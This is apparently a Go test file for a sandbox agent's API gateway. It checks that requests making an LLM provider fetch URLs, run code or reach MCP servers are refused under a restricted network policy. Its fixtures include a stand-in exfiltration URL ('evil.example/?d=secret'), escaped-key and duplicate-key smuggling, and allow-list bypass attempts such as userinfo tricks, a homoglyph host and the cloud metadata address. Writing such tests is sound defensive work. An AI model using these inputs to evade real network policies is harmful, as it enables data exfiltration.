package gateway

import (
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/sandbox-agent/sandbox-agent/workorder"
)

const (
	messagesPath  = "/anthropic/v1/messages"
	countPath     = "/anthropic/v1/messages/count_tokens"
	chatPath      = "/openai/v1/chat/completions"
	responsesPath = "/openai/v1/responses"
)

// policed is a bench whose gateway has a network policy.
type policed struct {
	*bench
	mu     sync.Mutex
	events []workorder.Event
}

func newPoliced(t *testing.T, n workorder.NetworkPolicy, tools *bool) *policed {
	t.Helper()
	p := &policed{}
	p.bench = newBench(t, func(w http.ResponseWriter, _ *http.Request) { message(w, anyUsage) }, func(c *ModelsConfig) {
		c.Network, c.Gateway.ProviderTools = n, tools
		c.Emit = func(e workorder.Event) {
			p.mu.Lock()
			defer p.mu.Unlock()
			p.events = append(p.events, e)
		}
	})
	return p
}

func restricted(allow ...string) workorder.NetworkPolicy {
	return workorder.NetworkPolicy{Mode: workorder.NetworkRestricted, Allow: allow}
}

// image and tool are requests of the Messages API.
func image(u string) string {
	return `{"model":"claude-sonnet-4-5","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":` + quote(u) + `}}]}]}`
}

func tool(t string) string {
	return `{"model":"claude-sonnet-4-5","max_tokens":9,"messages":[],"tools":[` + t + `]}`
}

func input(item string) string { return `{"model":"gpt-5","input":[` + item + `]}` }

func quote(s string) string { b, _ := json.Marshal(s); return string(b) }

// TestProviderReachesOut: what makes the provider fetch or run something is refused where the network is not full, and
// said by name.
func TestProviderReachesOut(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ path, body, names string }{
		"image":                {messagesPath, image("https://evil.example/?d=secret"), "evil.example:443"},
		"counted image":        {countPath, image("http://evil.example:8080/"), "evil.example:8080"},
		"document in a result": {messagesPath, `{"messages":[{"content":[{"type":"tool_result","content":[{"source":{"url":"https://evil.example","type":"url"},"type":"document"}]}]}]}`, "evil.example:443"},
		"in other case":        {messagesPath, `{"messages":[{"content":[{"Type":"image","Source":{"Type":"URL","URL":"https://evil.example"}}]}]}`, "evil.example:443"},
		"escaped":              {messagesPath, `{"messages":[{"content":[{"type":"image","source":{"\u0074ype":"\u0075rl","ur\u006c":"https:\/\/evil\u002eexample"}}]}]}`, "evil.example:443"},
		"type twice":           {messagesPath, `{"messages":[{"content":[{"type":"tool_use","type":"image","input":{}}]}]}`, "type"},
		"file":                 {messagesPath, `{"messages":[{"content":[{"type":"document","source":{"type":"file","file_id":"file_1"}}]}]}`, "file"},
		"upload":               {messagesPath, `{"messages":[{"content":[{"type":"container_upload","file_id":"file_1"}]}]}`, "file"},
		"web search":           {messagesPath, tool(`{"type":"web_search_20250305","name":"web_search"}`), "web_search_20250305"},
		"web fetch":            {messagesPath, tool(`{"name":"a","input_schema":{}},{"type":"web_fetch_20260318","name":"f"}`), "web_fetch_20260318"},
		"code":                 {countPath, tool(`{"type":"code_execution_20260521","name":"c"}`), "code_execution_20260521"},
		"code in disguise":     {messagesPath, tool(`{"type":"bash_code_execution_20260521","name":"c"}`), "bash_code_execution_20260521"},
		"toolset":              {messagesPath, tool(`{"type":"mcp_toolset","mcp_server_name":"x"}`), "mcp_toolset"},
		"added tool":           {messagesPath, `{"messages":[{"content":[{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"type":"web_fetch_20260318"}}}]}]}`, "web_fetch_20260318"},
		"new tool":             {messagesPath, tool(`{"type":"teleport_20270101","name":"c"}`), "teleport_20270101"},
		"Google's":             {chatPath, `{"tools":[{"googleSearch":{}}]}`, "googlesearch"},
		"Google's, named":      {chatPath, `{"tools":[{"name":"x","url_context":{}}]}`, "url_context"},
		"MCP servers":          {messagesPath, `{"messages":[],"mcp_servers":[{"type":"url","name":"x","url":"https://evil.example"}]}`, "mcp_servers"},
		"chat image":           {chatPath, `{"messages":[{"content":[{"type":"image_url","image_url":{"url":"https://evil.example/a.png"}}]}]}`, "evil.example:443"},
		"chat file":            {chatPath, `{"messages":[{"content":[{"type":"file","file":{"file_data":"https://evil.example/a.pdf"}}]}]}`, "evil.example:443"},
		"chat file id":         {chatPath, `{"messages":[{"content":[{"type":"file","file":{"file_id":"f"}}]}]}`, "file"},
		"chat search":          {chatPath, `{"messages":[],"web_search_options":{}}`, "web_search_options"},
		"searching model":      {chatPath, `{"model":"gpt-5-search-api","messages":[]}`, "gpt-5-search-api"},
		"input image":          {responsesPath, input(`{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/"}]}`), "evil.example:443"},
		"input file":           {responsesPath, input(`{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/"}]}`), "evil.example:443"},
		"output of a function": {responsesPath, input(`{"type":"function_call_output","output":[{"type":"input_image","image_url":"https://evil.example/"}]}`), "evil.example:443"},
		"compacted":            {responsesPath + "/compact", input(`{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/"}]}`), "evil.example:443"},
		"search":               {responsesPath, `{"tools":[{"type":"web_search"}]}`, "web_search"},
		"live search":          {responsesPath, `{"tools":[{"type":"web_search","external_web_access":false,"external_web_access":true}]}`, "web_search"},
		"MCP":                  {responsesPath, `{"tools":[{"type":"mcp","server_url":"https://evil.example"}]}`, "server_url"},
		"connector":            {responsesPath, `{"tools":[{"type":"function","name":"x","connector_id":"connector_dropbox"}]}`, "connector_id"},
		"interpreter":          {responsesPath, `{"tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`, "code_interpreter"},
		"hosted shell":         {responsesPath, `{"tools":[{"type":"shell","environment":{"type":"container_auto"}}]}`, "shell"},
		"in a namespace":       {responsesPath, `{"tools":[{"type":"namespace","name":"n","tools":[{"type":"web_search"}]}]}`, "web_search"},
		"additional tools":     {responsesPath, input(`{"type":"additional_tools","role":"developer","tools":[{"type":"mcp"}]}`), "mcp"},
		"stored prompt":        {responsesPath, `{"prompt":{"id":"pmpt_1"}}`, "prompt"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := newPoliced(t, restricted("good.example"), nil)
			status, got, h := p.post(c.path, c.body)
			if status != 400 || !strings.Contains(got, "invalid_request_error") || !strings.Contains(got, c.names) || h.Get("X-Should-Retry") != "false" || p.requests() != 0 {
				t.Errorf("%d %s", status, got)
			}
			p.Stop()
			l := p.lines()
			if len(l) != 1 || l[0].Refused != "network" || len(l[0].Reaches) == 0 || !strings.Contains(l[0].Reaches[0], c.names) {
				t.Errorf("the audit has %+v", l)
			}
			if len(p.events) != 1 || !strings.Contains(p.events[0].Name, c.names) || p.events[0].Type != workorder.EventNetwork || p.events[0].By != "gateway" ||
				p.events[0].Status != "refused" || p.events[0].Fix == "" || !strings.Contains(got, strings.Trim(quote(p.events[0].Fix), `"`)) {
				t.Errorf("events %+v", p.events)
			}
			learning := restricted()
			learning.Learn = true
			for _, other := range []struct {
				n      workorder.NetworkPolicy
				tools  *bool
				status string // of the event; "": none
			}{{workorder.NetworkPolicy{Mode: workorder.NetworkFull}, nil, ""}, {workorder.NetworkPolicy{}, nil, ""}, {learning, nil, "learned"}} {
				p := newPoliced(t, other.n, other.tools)
				if status, got, _ := p.post(c.path, c.body); status != 200 || p.requests() != 1 {
					t.Errorf("%+v: %d %s", other.n, status, got)
				}
				if (other.status == "") != (len(p.events) == 0) || len(p.events) > 0 && p.events[0].Status != other.status {
					t.Errorf("%+v: events %+v", other.n, p.events)
				}
			}
			if status, got, _ := newPoliced(t, workorder.NetworkPolicy{Mode: workorder.NetworkNone}, nil).post(c.path, c.body); status != 400 {
				t.Errorf("none: %d %s", status, got)
			}
			url := strings.HasPrefix(c.names, "evil")
			if status, got, _ := newPoliced(t, restricted(), new(true)).post(c.path, c.body); (status == 200) == url {
				t.Errorf("with provider_tools: %d %s", status, got)
			}
			if status, got, _ := newPoliced(t, workorder.NetworkPolicy{Mode: workorder.NetworkFull}, new(false)).post(c.path, c.body); (status == 200) != url {
				t.Errorf("full, without provider_tools: %d %s", status, got)
			}
		})
	}
}

// TestFetchedHosts: a URL is judged as a connection of the agent's own would be.
func TestFetchedHosts(t *testing.T) {
	t.Parallel()
	for u, ok := range map[string]bool{
		"https://good.example/a?b=c": true, "http://GOOD.example./": true, "https://a.sub.example/": true, "https://port.example:8443/": true, "https://192.0.2.7/": true,
		"data:image/png;base64,AAAA": true, "DATA:text/plain,https://evil.example": true, "data:" + strings.Repeat("A", 3*maxText): true, "": true,
		"https://good.example:8443/": false, "https://sub.example/": false, "https://port.example/": false, "https://good.example.evil.example/": false,
		"https://good.example@evil.example/": false, `https://good.example\@evil.example/`: false, "https://evil.example#@good.example/": false, "//good.example/": false,
		"https:good.example": false, "https:/good.example": false, "ftp://good.example/": false, "gs://good.example/": false, " https://good.example/": false, "https://good.example\t/": false,
		"https://good%2eexample/": false, "https://user@good.example/": false, "https://169.254.169.254/": false, "https://good.example:/": false, "good.example": false,
		"https://evil.example/" + strings.Repeat("a", 3*maxText): false, "https://gооd.example/": false,
	} {
		p := newPoliced(t, restricted("good.example", "*.sub.example", "port.example:8443", "192.0.2.7"), nil)
		if status, got, _ := p.post(messagesPath, image(u)); (status == 200) != ok {
			t.Errorf("%.100s: %d %s", u, status, got)
		}
		if want := map[bool]string{true: "allowed", false: "refused"}[ok]; u != "" && !strings.HasPrefix(strings.ToLower(u), "data:") && (len(p.events) != 1 || p.events[0].Status != want) {
			t.Errorf("%.100s: %+v", u, p.events)
		}
	}
}

// TestOrdinarySession: what agents send all the time passes, whatever it is about.
func TestOrdinarySession(t *testing.T) {
	t.Parallel()
	p := newPoliced(t, workorder.NetworkPolicy{Mode: workorder.NetworkNone}, nil)
	for _, c := range [][2]string{
		{messagesPath, tool(`{"name":"WebSearch","input_schema":{"type":"object","properties":{"type":{"type":"string"},"Type":{},"url":{"type":"url","url":"https://x.example"},"file_id":{},"image_url":{"url":"https://x.example"}}}},` +
			`{"type":"custom","name":"WebFetch","input_schema":{}},{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"e"},{"type":"computer_20251124","name":"c"},{"type":"memory_20250818","name":"m"},` +
			`{"type":"computer_toolset_20260801"},{"type":"browser_toolset_20260801"},{"type":"tool_search_tool_regex_20251119","name":"s"},{"type":"advisor_20260301","name":"a","model":"claude-opus-5-5"}`)},
		{messagesPath, `{"model":"claude-sonnet-4-5","mcp_servers":[],"metadata":{"user_id":"{}"},"messages":[{"role":"user","content":"see https://evil.example"},` +
			`{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"mcp__x","input":{"type":"url","url":"https://evil.example","image_url":"https://evil.example","tools":[{"type":"web_search"}],"file_id":"x","a":{"type":1,"type":2}}}]},` +
			`{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"text","text":"{\"type\":\"url\"}"},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"https://"}},{"type":"tool_reference","tool_name":"x"}]}]}]}`},
		{messagesPath, `{"model":"claude-sonnet-4-5","tool_choice":{"type":"tool","name":"x"},"messages":[{"content":[{"type":"web_search_tool_result","content":[{"type":"web_search_result","url":"https://evil.example"}]}]}]}`},
		{chatPath, `{"model":"gpt-5","tools":[{"type":"function","function":{"name":"web_search","parameters":{"properties":{"image_url":{"url":"https://x.example"}}}}}],"messages":[{"content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AA"}}]}]}`},
		{responsesPath, `{"model":"gpt-5","store":false,"tools":[{"type":"function","name":"x","parameters":{"type":"object"}},{"type":"custom","name":"apply_patch","format":{"type":"grammar","syntax":"lark","definition":"x"}},{"type":"local_shell"},` +
			`{"type":"shell"},{"type":"shell","environment":{"type":"local"}},{"type":"apply_patch"},{"type":"web_search","external_web_access":false},{"type":"file_search","vector_store_ids":["v"]},{"type":"image_generation"},{"type":"computer_use_preview"},{"type":"tool_search"}],` +
			`"input":[{"type":"function_call","arguments":"{\"image_url\":\"https://evil.example\"}"},{"type":"message","content":[{"type":"output_text","text":"x","annotations":[{"type":"url_citation","url":"https://evil.example"},{"type":"file_citation","file_id":"f"}]}]},` +
			`{"type":"web_search_call","action":{"type":"open_page","url":"https://evil.example"}}]}`},
		{responsesPath + "/resp_1/cancel", ""},
	} {
		if status, got, _ := p.post(c[0], c[1]); status != 200 {
			t.Errorf("%s: %d %s", c[1], status, got)
		}
	}
	if len(p.events) > 0 || p.requests() != 6 {
		t.Errorf("%d requests, events %+v", p.requests(), p.events)
	}
}

// TestSaidOnce: events are of the first of a kind, and what one request names is bounded.
func TestSaidOnce(t *testing.T) {
	t.Parallel()
	p := newPoliced(t, restricted(), nil)
	for range 3 {
		p.post(messagesPath, image("https://evil.example/"))
	}
	if len(p.events) != 1 {
		t.Errorf("%+v", p.events)
	}
	many := slices.Repeat([]string{`{"image_url":"https://x.example"}`}, maxReaches+1)
	for _, body := range []string{
		`{"input":[` + strings.Join(many, ",") + `]}`, `{"input":[{"type":"tool_use","input":[` + strings.Join(many, ",") + `],"image_url":"https://evil.example"}]}`,
	} {
		if status, got, _ := p.post(responsesPath, body); status != 400 || !strings.Contains(got, `"code":"bad_request"`) {
			t.Errorf("%d %s", status, got)
		}
	}
	if _, err := NewModels(ModelsConfig{Network: restricted("http://x")}); err == nil {
		t.Error("a rule that is none is accepted")
	}
}

// FuzzScan: no body makes the scanner fail.
func FuzzScan(f *testing.F) {
	for _, s := range []string{image("https://x.example"), tool(`{"type":"x"}`), `{"input":[{"type":"tool_use","input":{"image_url":"x"}}]}`, `{"mcp_servers":[ ],"a":[{},[]]}`, `{"prompt":{}}`, `{"":[1,{"url":null}]}`} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		if _, err := parseBody(raw); err != nil {
			return
		}
		if _, err := scan(raw); err != nil && len(raw) < maxReaches {
			t.Errorf("%q: %v", raw, err)
		}
	})
}
